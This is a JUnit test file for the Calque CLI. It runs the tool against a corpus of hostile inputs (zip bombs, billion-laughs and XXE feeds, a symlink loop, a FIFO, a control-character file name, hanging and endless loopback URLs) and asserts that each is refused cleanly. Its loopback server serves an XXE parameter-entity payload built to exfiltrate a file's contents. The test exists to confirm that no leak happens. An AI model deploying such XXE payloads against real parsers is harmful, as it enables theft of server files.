package dev.calque.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import dev.calque.ingest.Fixtures;
import dev.calque.ingest.HostileFiles;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The hostile corpus (src/test/resources/hostile plus generated files and loopback URLs) checked in
 * one run beside a good article: every bad input gets one line, legitimate ones are decoded right,
 * nothing hangs or leaks, the good article is checked, and the run exits 3.
 */
class HostileInputTest {
    @TempDir
    static Path dir;
    static HttpServer server;
    static final CountDownLatch release = new CountDownLatch(1);
    static CliRun run;
    static JsonNode report;
    static final Map<String, String> problems = new HashMap<>();
    static final Map<String, JsonNode> articles = new HashMap<>();
    static String base;
    static final List<String> requests = new java.util.concurrent.CopyOnWriteArrayList<>();
    static final String SECRET = "runner-secret-5c2e81";
    static final String CONTROL_NAME = "bad\nname\u001b[31m.txt";
    static final Map<String, String> formats = new HashMap<>();

    @BeforeAll
    static void runHostileCorpus() throws Exception {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.setExecutor(Executors.newCachedThreadPool(r -> {
            Thread t = new Thread(r);
            t.setDaemon(true);
            return t;
        }));
        server.createContext("/", ex -> {
            // anything else asked for is a leak: an entity or a DTD a document named
            requests.add(ex.getRequestURI().toString());
            byte[] dtd = ("<!ENTITY % all \"<!ENTITY send SYSTEM '" + base + "/exfil?d=%file;'>\"> %all;").getBytes();
            ex.sendResponseHeaders(200, dtd.length);
            ex.getResponseBody().write(dtd);
            ex.close();
        });
        server.createContext("/huge", ex -> {
            ex.getResponseHeaders().set("Content-Type", "text/plain");
            ex.sendResponseHeaders(200, 0); // chunked: no length announced, 2 GB if nobody stops
            byte[] chunk = new byte[1 << 20];
            java.util.Arrays.fill(chunk, (byte) 'a');
            try (OutputStream out = ex.getResponseBody()) {
                for (int i = 0; i < 2048; i++) out.write(chunk);
            } catch (IOException clientGaveUp) {
                // expected: Calque stops reading at its limit
            }
        });
        server.createContext("/loop", ex -> {
            ex.getResponseHeaders().set("Location", "/loop");
            ex.sendResponseHeaders(302, -1);
            ex.close();
        });
        server.createContext("/silent", ex -> {
            try {
                release.await(60, TimeUnit.SECONDS);
            } catch (InterruptedException ignored) {
                Thread.currentThread().interrupt();
            }
            ex.close();
        });
        server.start();
        base = "http://127.0.0.1:" + server.getAddress().getPort();

        Path folder = Files.createDirectories(dir.resolve("hostile"));
        try (Stream<Path> committed = Files.list(Path.of("src/test/resources/hostile"))) {
            for (Path p : committed.toList()) Files.copy(p, folder.resolve(p.getFileName()));
        }
        HostileFiles.truncatedPdf(folder);
        HostileFiles.encryptedPdf(folder);
        HostileFiles.scannedPdf(folder);
        HostileFiles.docxZipBomb(folder);
        HostileFiles.nestedZip(folder);
        HostileFiles.bigText(folder, 100);
        Path secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
        HostileFiles.docxWithEntities(folder, secret.toUri().toString(), base + "/docx-entity");
        HostileFiles.svgWithParameterEntities(folder, secret.toUri().toString(), base + "/evil.dtd");
        HostileFiles.docxEmbeddingZipBomb(folder);
        Files.writeString(folder.resolve(CONTROL_NAME), "");
        HostileFiles.endlessSentence(folder, 5);
        Files.createSymbolicLink(folder.resolve("loop"), folder);
        new ProcessBuilder("mkfifo", folder.resolve("pipe").toString()).start().waitFor();
        deleteGenerated(folder);

        Path out = dir.resolve("out.json");
        // the endless sentence tests the time limit: the text limit is raised past it so that it does not cut first
        run = CliRun.of("check", "--format", "json", "-o", out.toString(), "--format", "sarif", "-o", dir.resolve("out.sarif").toString(),
                "--format", "junit", "-o", dir.resolve("out.xml").toString(), "--format", "github", "-o", dir.resolve("out.github").toString(),
                "--timeout", "5", "--fetch-timeout", "2", "--max-input-mb", "8", "--max-text-chars", "6000000",
                folder.toString(), Fixtures.SEED.toString(), base + "/huge", base + "/loop", base + "/silent");
        report = new ObjectMapper().readTree(out.toFile());
        for (String f : List.of("out.sarif", "out.xml", "out.github")) formats.put(f, Files.readString(dir.resolve(f)));
        for (JsonNode p : report.get("unreadable")) problems.put(name(p.get("source").asText()), p.get("reason").asText());
        for (JsonNode a : report.get("articles")) articles.put(name(a.get("source").asText()), a);
    }

    private static void deleteGenerated(Path folder) throws IOException {
        for (String d : List.of("gen", "gen2")) {
            try (Stream<Path> s = Files.walk(folder.resolve(d))) {
                for (Path p : s.sorted(java.util.Comparator.reverseOrder()).toList()) Files.delete(p);
            }
        }
    }

    private static String name(String source) {
        return source.startsWith("http") ? source.substring(source.lastIndexOf('/')) : Path.of(source).getFileName().toString();
    }

    @AfterAll
    static void stop() {
        release.countDown();
        server.stop(0);
    }

    @Test
    void everyBadInputIsReportedWithItsReason() {
        Map<String, String> problems = new HashMap<>(HostileInputTest.problems);
        problems.remove("entities.docx"); // read or refused, as long as no entity is resolved (below)
        problems.remove("entities.svg");
        assertThat(problems.remove("embedded-bomb.docx")).startsWith("zip bomb: ").contains("inside a zip inside the document");
        assertThat(problems.remove(CONTROL_NAME)).isEqualTo("empty file");
        assertThat(problems).containsOnlyKeys("truncated.pdf", "encrypted.pdf", "scanned.pdf", "bomb.docx", "nested.zip",
                "xxe.rss", "billion-laughs.rss", "big.txt", "endless.txt", "empty.txt", "nul-bytes.txt", "loop", "pipe",
                "/huge", "/loop", "/silent");
        assertThat(problems.get("truncated.pdf")).startsWith("cannot read this PDF");
        assertThat(problems.get("encrypted.pdf")).startsWith("encrypted document");
        assertThat(problems.get("scanned.pdf")).contains("no text to check").contains("scanned");
        assertThat(problems.get("bomb.docx")).startsWith("zip bomb: 299 KB inflates to more than");
        assertThat(problems.get("nested.zip")).startsWith("an archive (application/zip), not an article");
        assertThat(problems.get("xxe.rss")).contains("DOCTYPE");
        assertThat(problems.get("billion-laughs.rss")).contains("DOCTYPE");
        assertThat(problems.get("big.txt")).startsWith("larger than the input limit of 8 MB (100 MB)");
        assertThat(problems.get("endless.txt")).startsWith("checking took more than the limit of 5 s of processor time");
        assertThat(problems.get("empty.txt")).isEqualTo("empty file");
        assertThat(problems.get("nul-bytes.txt")).contains("not text");
        assertThat(problems.get("loop")).isEqualTo("symbolic link loop");
        assertThat(problems.get("pipe")).isEqualTo("not a regular file");
        // the size limit, or on a machine too busy to receive 8 MB in 2 s the time limit: never the 2 GB
        assertThat(problems.get("/huge")).matches("download is over the limit of 8 MB.*|no answer within 2 s");
        assertThat(problems.get("/loop")).contains("redirects");
        assertThat(problems.get("/silent")).isEqualTo("no answer within 2 s");
    }

    @Test
    void oneLinePerProblemOnStderrAndNoStackTrace() {
        List<String> lines = run.err().lines().filter(l -> l.startsWith("calque: ")).toList();
        // a data file in a folder (the SVG) is skipped with a line of its own, not an unreadable input
        assertThat(lines.stream().filter(l -> !l.contains(": skipped: "))).hasSize(problems.size());
        assertThat(run.err()).doesNotContain("Exception").doesNotContain("\tat ");
        assertThat(run.exit()).isEqualTo(Main.UNREADABLE_INPUT);
    }

    @Test
    void externalEntitiesAreNeverResolved() {
        assertThat(report.toString()).doesNotContain("root:x:0:0").doesNotContain(SECRET);
        assertThat(run.out() + run.err()).doesNotContain("root:x:0:0").doesNotContain(SECRET);
        for (String f : formats.values()) assertThat(f).doesNotContain(SECRET);
        // the loopback server saw only the URLs given on the command line: no entity, DTD or exfiltration
        assertThat(requests).as("requests a document made").isEmpty();
    }

    @Test
    void everyOutputFormatHoldsTheGoodArticleAndTheBadInputs() {
        for (Map.Entry<String, String> f : formats.entrySet()) {
            assertThat(f.getValue()).as(f.getKey()).contains("swept to AFP").contains("bomb.docx").contains("big.txt")
                    .contains("/silent");
        }
    }

    @Test
    void aControlCharacterInAFileNameIsEscapedOnItsLine() {
        assertThat(run.err()).contains("bad\\nname\\x1b[31m.txt: empty file").doesNotContain("\u001b");
    }

    @Test
    void legitimateEncodingsAreDecodedAndChecked() {
        for (String f : List.of("windows-1252.txt", "utf16le-bom.txt", "utf16be-nobom.txt")) {
            JsonNode a = articles.get(f);
            assertThat(a).as(f).isNotNull();
            assertThat(a.get("findings").findValuesAsText("sentence")).as(f)
                    .contains("“Poutine” was written on the sign, officials said.");
        }
        JsonNode broken = articles.get("invalid-utf8.txt");
        // a broken byte does not turn the rest of a UTF-8 file into Windows-1252 mojibake
        assertThat(broken.get("findings").findValuesAsText("passage")).contains("Poutine", "Genève");
    }

    @Test
    void htmlNamedAsAFeedIsReadAsThePageItIs() {
        JsonNode page = articles.get("html-pretending.rss");
        assertThat(page.get("mediaType").asText()).isEqualTo("text/html");
        assertThat(page.get("findings").findValuesAsText("passage")).contains("Poutine");
    }

    @Test
    void theGoodArticleIsStillCheckedAndReported() {
        JsonNode seed = articles.get("000_5323ff96fa5a9330.txt");
        assertThat(seed.get("findings").findValuesAsText("passage")).contains("swept to AFP", "source site");
        assertThat(report.at("/summary/articles").asInt()).isEqualTo(articles.size());
    }
}
